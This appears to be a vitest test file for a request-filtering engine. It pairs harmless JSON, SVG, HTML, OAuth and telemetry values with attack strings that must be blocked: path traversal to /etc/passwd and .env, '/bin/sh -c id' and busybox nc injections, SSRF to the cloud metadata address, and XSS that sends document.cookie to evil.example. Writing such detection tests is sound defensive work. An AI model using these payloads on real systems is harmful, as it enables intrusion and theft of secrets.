// Whole local documents posted as bodies and single API values (session 22's probe, local files: package.json
// and tsconfig links, icons as data URLs, file paths as test-data generators write them). Each fix judges the
// structure of the value, and beside every benign shape stands the nearest attack, which must still block.
import { beforeAll, describe, expect, it } from "vitest";
import { loadHarness, type Harness } from "../support/harness.js";
import { inspect, type Req } from "../support/engine.js";
import { TEXT_CARRIERS, blockedBy } from "../support/text-carriers.js";

let h: Harness;
beforeAll(async () => {
  h = await loadHarness();
});

const post = (body: unknown): Req => ({ method: "POST", path: "/api/v1/packages", headers: [["host", "svc.local"], ["content-type", "application/json"]], body: JSON.stringify(body) });
const ids = (req: Req) => inspect(h, req).matches.map((m) => m.id);
const b64 = (s: string) => Buffer.from(s).toString("base64");

describe("lfi 5100: a JSON value that links files of one project", () => {
  // one to three literal `../` steps, then plain names that climb no further and start at no root directory
  it.each([
    { main: "../../scripts/template-oss/index.js" },
    { extends: "../tsconfig.base.json" },
    { extends: "../../../tsconfig-base.json" },
    { compilerOptions: { rootDir: "../src", outDir: "../../dist/pkg", declarationDir: "../types" } },
    { sources: ["../src/index.ts", "../src/util/a-b_c@2.mjs"], file: "index.js" },
    { exports: { ".": "../dist/index.cjs" } },
    { directory: "../../packages/core" },
    { chunks: { "../node_modules/lodash/lodash.js": { size: 544098 } } }, // a bundler's stats: paths as keys
  ])("passes %j", (doc) => {
    expect(blockedBy(h, post(doc))).toBe("");
  });
  it.each([
    ["../../etc/passwd", 5101],
    ["../../var/log/apache2/access.log", 5100], // climbs to the root and goes down into /var
    ["../../Windows/win.ini", 5101],
    ["../../../../scripts/x.js", 5100], // four steps: more than a project's links climb
    ["../../a/../../x.js", 5100], // climbs again after a name
    ["../../x.js%00", 5100], // an encoded NUL cuts the name
    ["..%2f..%2fscripts/x.js", 5100], // encoded steps
    ["..\\..\\scripts\\x.js", 5100], // Windows separators
    ["../../", 5100],
    ["../../.env", 5101],
    ["../web.xml", 5101], // Confluence's widget _template (CVE-2019-3396): a Java web application's descriptor is a secret
  ])("blocks %s", (value, id) => {
    expect(ids(post({ file: value }))).toContain(id);
    expect(blockedBy(h, post({ file: value }))).not.toBe("");
  });
  it("still blocks the same steps in a query or form value", () => {
    expect(blockedBy(h, { path: `/download?file=${encodeURIComponent("../../scripts/x.js")}`, headers: [["host", "svc.local"]] })).not.toBe("");
  });
});

describe("rce 4103: a whole value naming a data file in a binary directory", () => {
  // faker's system.filePath(): `/usr/bin/theme.wav`; a program in /bin or /usr/bin has no letter extension
  it.each(["/usr/bin/theme.wav", "/bin/report.pdf", "/sbin/data.json", "/usr/sbin/ringtone.mp3", "/usr/local/bin/clip.h264"])("passes %s", (text) => {
    for (const carrier of TEXT_CARRIERS) expect(blockedBy(h, carrier(text))).toBe("");
  });
  it.each(["/usr/bin/id", "/bin/sh -c id", "/usr/bin/python3.11", "/usr/bin/theme.wav -c id", ";/usr/bin/x.wav", "/bin/busybox nc 10.0.0.1 4444"])("blocks %s", (text) => {
    for (const carrier of TEXT_CARRIERS) expect(blockedBy(h, carrier(text))).not.toBe("");
  });
});

describe("xss 3003: an SVG data URL of a picture that runs and loads nothing", () => {
  const icon = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2 2 22h20z" fill="#1a73e8"/><circle cx="12" cy="17" r="1"/></svg>';
  it.each([
    `data:image/svg+xml;base64,${b64(icon)}`,
    `data:image/svg+xml;utf8,${icon}`,
    `data:image/svg+xml,${encodeURIComponent(icon)}`,
    `data:image/svg+xml;charset=utf-8,${icon.replace(/"/g, "'")}`,
    `data:image/svg+xml;base64,${b64('<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<!-- Created with an editor -->\n' + icon)}`,
  ])("passes %s", (uri) => {
    expect(blockedBy(h, post({ name: "warning", icon: uri }))).toBe("");
  });
  it.each([
    `data:image/svg+xml;base64,${b64("<svg onload=alert(1)>")}`,
    `data:image/svg+xml;base64,${b64('<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/x.png"/></svg>')}`,
    `data:image/svg+xml;utf8,<svg><script>alert(1)</script></svg>`,
    `data:image/svg+xml,<svg><a xlink:href="javascript:alert(1)"><rect/></a></svg>`,
    `data:image/svg+xml,<svg><set attributeName=onmouseover to=alert(1)>`,
    `data:image/svg+xml;utf8,<svg><rect style="fill:url(http://evil.example/a)"/></svg>`,
    `data:image/svg+xml;utf8,<svg><foreignObject><iframe src=//evil.example></iframe></foreignObject></svg>`,
    `data:image/svg+xml;utf8,<svg>&lt;script&gt;</svg>`,
    `data:image/svg+xml;base64,${b64('<!DOCTYPE svg [<!ENTITY e "x">]><svg xmlns="http://www.w3.org/2000/svg"><text>&e;</text></svg>')}`,
    `data:text/html;base64,${b64(icon)}`,
  ])("blocks %s", (uri) => {
    expect(ids(post({ icon: uri }))).toContain(3003);
    expect(blockedBy(h, post({ icon: uri }))).not.toBe("");
  });
});

describe("xss and protocol 1062: a whole HTML document as a value (a mail's or a page's HTML posted to an API)", () => {
  // read as a body is: its head, title, meta and comments are its own; script, handlers, script URLs and
  // elements that act (iframe, base, form, a meta refresh) still count
  const mail = (body: string) =>
    `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">\n<html xmlns="http://www.w3.org/1999/xhtml">\n<head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"/><meta name="viewport" content="width=device-width, initial-scale=1.0"/><title>{{subject}}</title><style type="text/css">body{margin:0}</style><!--[if mso]><style>table{border-collapse:collapse}</style><![endif]--></head>\n<body style="margin:0"><table role="presentation" width="100%"><tr><td style="font-family:Arial">${body}</td></tr></table></body>\n</html>\n`;
  const send = (html: string): Req => ({ method: "POST", path: "/api/v1/mail/send", headers: [["host", "svc.local"], ["content-type", "application/json"]], body: JSON.stringify({ to: ["jane@example.com"], subject: "Your order", html }) });
  it.each([
    mail(`Hi {{first_name}}, your order <strong>#1042</strong> has shipped. <a href="https://shop.example.com/orders/1042?utm_source=email&amp;utm_medium=mail" style="color:#1a73e8">Track it</a>`),
    `<?xml version="1.0" encoding="UTF-8"?>\n<html>\n<head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"><title>libxslt</title><meta name="generator" content="GTK-Doc V1.33"></head>\n<body><p>The XSLT C library</p></body>\n</html>\n`,
    `<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01//EN">\n<HTML\n><HEAD\n><TITLE\n>Users and groups</TITLE\n><META\nNAME="GENERATOR"\nCONTENT="Modular DocBook HTML Stylesheet Version 1.79"></HEAD\n><BODY\n><P>Text</P></BODY\n></HTML\n>`,
    `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Release notes</title></head><body><h1>Changes</h1></body></html>`,
  ])("passes %#", (html) => {
    expect(blockedBy(h, send(html))).toBe("");
  });
  it.each([
    [mail(`<script>fetch("//evil.example/?c="+document.cookie)</script>`), 3001],
    [mail(`<img src=x onerror=alert(1)>`), 3002],
    [mail(`<a href="javascript:alert(1)">Track it</a>`), 3003],
    [mail(`<iframe src="//evil.example/phish"></iframe>`), 3001],
    [`<!DOCTYPE html><html><head><meta http-equiv="refresh" content="0;url=https://evil.example/"></head><body></body></html>`, 3001],
    [`<!DOCTYPE html><html><head><base href="//evil.example/"></head><body></body></html>`, 3001],
  ])("blocks %#", (html, id) => {
    expect(ids(send(html))).toContain(id);
    expect(blockedBy(h, send(html))).not.toBe("");
  });
  it("still blocks a document behind an injected head, markup that is no whole document, and a meta charset in a fragment", () => {
    expect(ids(send("x\r\nContent-Type: text/html\r\n\r\n<html><body>hi</body></html>"))).toContain(1062);
    expect(blockedBy(h, send(`<meta http-equiv="Content-Type" content="text/html; charset=UTF-7"><p>hi</p>`))).not.toBe("");
    expect(blockedBy(h, send(`<title>x</title></head><body><p>hi</p></body></html>`))).not.toBe("");
  });
});

describe("protocol 1062: a response written out in a fenced code block of a comment", () => {
  // as request lines and headers already are (langs/fences.ts): a page quotes them in JSON, XML and multipart bodies
  const code = "```js\nsocket.write(`HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Type: text/plain\r\n\r\nok`);\n```";
  const comment = (body: string): Req => ({ method: "POST", path: "/repos/octo/app/issues/12/comments", headers: [["host", "svc.local"], ["content-type", "application/json"]], body: JSON.stringify({ body }) });
  it("passes the snippet in a comment", () => {
    expect(blockedBy(h, comment(`Repro:\n\n${code}\n\nAny idea?`))).toBe("");
  });
  it("blocks the same response after a line break outside a fence, and in a query value with fences", () => {
    expect(ids(comment("x\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<p>hi</p>"))).toContain(1062);
    const q = `/r?next=${encodeURIComponent(`x\r\n${code}`)}`;
    expect(blockedBy(h, { path: q, headers: [["host", "svc.local"]] })).not.toBe("");
  });
});

describe("ssrf 7101, rfi 6100: OAuth's redirect_uri on the loopback (RFC 8252 7.3: a native app or a CLI waits there)", () => {
  const authorize = (redirect: string, name = "redirect_uri"): Req => ({
    path: `/authorize?response_type=code&client_id=cli-7f3a&${name}=${encodeURIComponent(redirect)}&scope=openid%20profile&state=af0ifjsldkj&code_challenge=E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM&code_challenge_method=S256`,
    headers: [["host", "auth.svc.local"]],
  });
  const token = (redirect: string): Req => ({ method: "POST", path: "/oauth/token", headers: [["host", "auth.svc.local"], ["content-type", "application/x-www-form-urlencoded"]], body: new URLSearchParams({ grant_type: "authorization_code", code: "SplxlOBeZQQYbYS6WxSbIA", redirect_uri: redirect, code_verifier: "dBjftJeZ4CVP-mJ92K9aeeQ6kxS7Ak2vUmtLhqXzJ4E" }).toString() });
  it.each(["http://localhost:8085/", "http://127.0.0.1:53682/callback", "http://localhost:3000/api/auth/callback/google"])("passes %s", (redirect) => {
    expect(blockedBy(h, authorize(redirect))).toBe("");
    expect(blockedBy(h, token(redirect))).toBe("");
  });
  it.each([
    ["http://169.254.169.254/latest/meta-data/", "redirect_uri", 7100],
    ["http://kubernetes.default.svc/api", "redirect_uri", 7101],
    ["http://0x7f000001/", "redirect_uri", 7102],
    ["http://127.1/", "redirect_uri", 7102],
    ["http://localhost:8085/", "callback_url", 7101],
    ["http://127.0.0.1/admin", "url", 6100],
  ])("blocks %s as %s", (redirect, name, id) => {
    expect(ids(authorize(redirect, name))).toContain(id);
    expect(blockedBy(h, authorize(redirect, name))).not.toBe("");
  });
});

describe("rce 4103: the strings of an OpenTelemetry export (OTLP/JSON) record what ran", () => {
  // process.command_line of a Java agent or Python's process detector, and log bodies, sent to a collector
  const otlp = (command: string): Req => ({
    method: "POST", path: "/v1/logs", headers: [["host", "otel-collector.observability.svc"], ["content-type", "application/json"]],
    body: JSON.stringify({ resourceLogs: [{ resource: { attributes: [{ key: "service.name", value: { stringValue: "orders" } }, { key: "process.command_line", value: { stringValue: command } }, { key: "process.command_args", value: { arrayValue: { values: [{ stringValue: command.split(" ")[0] }] } } }] }, scopeLogs: [{ logRecords: [{ severityText: "INFO", body: { stringValue: `started: ${command}` } }, { body: { stringValue: command } }] }] }] }),
  });
  it.each(["/opt/java/openjdk/bin/java -javaagent:/otel/opentelemetry-javaagent.jar -jar /app/app.jar", "/usr/bin/java -jar app.jar", "/usr/local/bin/python3 /app/manage.py runserver 0.0.0.0:8000", "/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock"])("passes %s", (command) => {
    expect(blockedBy(h, otlp(command))).toBe("");
  });
  it.each([
    { cmd: "/usr/bin/dockerd -H fd://" },
    { task: { stringValue: "/bin/sh -c id" } }, // the field name alone is no export
    { resource: { command: "/usr/bin/java -jar app.jar" } },
  ])("blocks %j", (doc) => {
    expect(ids(post(doc))).toContain(4103);
    expect(blockedBy(h, post(doc))).not.toBe("");
  });
});
